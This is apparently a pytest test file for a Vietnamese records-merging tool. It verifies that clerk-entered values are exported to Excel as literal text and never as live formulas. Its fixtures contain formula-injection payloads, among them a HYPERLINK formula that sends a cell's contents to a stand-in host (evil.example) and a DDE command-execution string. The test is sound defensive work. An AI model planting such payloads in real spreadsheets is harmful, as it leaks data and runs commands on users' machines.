"""Formula injection (issue 7 §3.5): what the registers' clerks typed comes out of the merged
Excel as the literal text, never as a live formula."""

import datetime as dt

from openpyxl import load_workbook

from motcua.registers.export import quality_report, write_workbook

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Xem")'


def record(rid, person, name, **extra):
    return {
        "record_id": rid,
        "person_id": person,
        "source": extra.get("source", "+ward_1"),
        "file_name": "@a.csv",
        "line_no": 2,
        "full_name": name,
        "birth_date": "-01/01/1990",
        "gender": "Nam",
        "citizen_id": "\t=1+1",
        "address": "=cmd|' /C calc'!A0",
        "phone": "+84905123456",
        "household_no": "-HK1",
        "new_unit": "",
        "n_citizen_id": None,
        "n_cmnd": None,
        "n_birth_date": "1990-01-01",
        "n_birth_year": 1990,
        "n_gender": "M",
        "n_id_consistent": None,
    }


def test_every_cell_of_the_merged_workbook_is_text_or_a_number(tmp_path):
    records = [record("=R1", "P1", EVIL), record("R2", "P1", "Nguyễn Văn An", source="ward_2")]
    out = tmp_path / "hop-nhat.xlsx"
    write_workbook(
        out=out,
        title="=1+2",
        commune="Phường Thanh Khê",
        run_no=1,
        generated_at=dt.datetime(2026, 7, 1, 9, 0),
        records=records,
        report=quality_report(records),
        decisions=[
            {
                "decided_at": dt.datetime(2026, 7, 1, 9, 30),
                "decided_by": "@cán bộ",
                "record_id_l": "=R1",
                "record_id_r": "R2",
                "verdict": "Cùng một người",
                "reason": '=HYPERLINK("http://x")',
            }
        ],
    )
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for literal in (EVIL, "=R1", "=1+2", "=cmd|' /C calc'!A0", "+84905123456", "-HK1", "\t=1+1", "@cán bộ"):
        assert literal in values, literal
    original = wb["Bản ghi gốc"]
    head = [c.value for c in original[1]]
    evil_cell = original.cell(row=2, column=head.index("Họ và tên") + 1)
    assert evil_cell.value == EVIL and evil_cell.data_type == "s"
    assert wb["Tổng hợp"]["B3"].value == 1  # numbers stay numbers
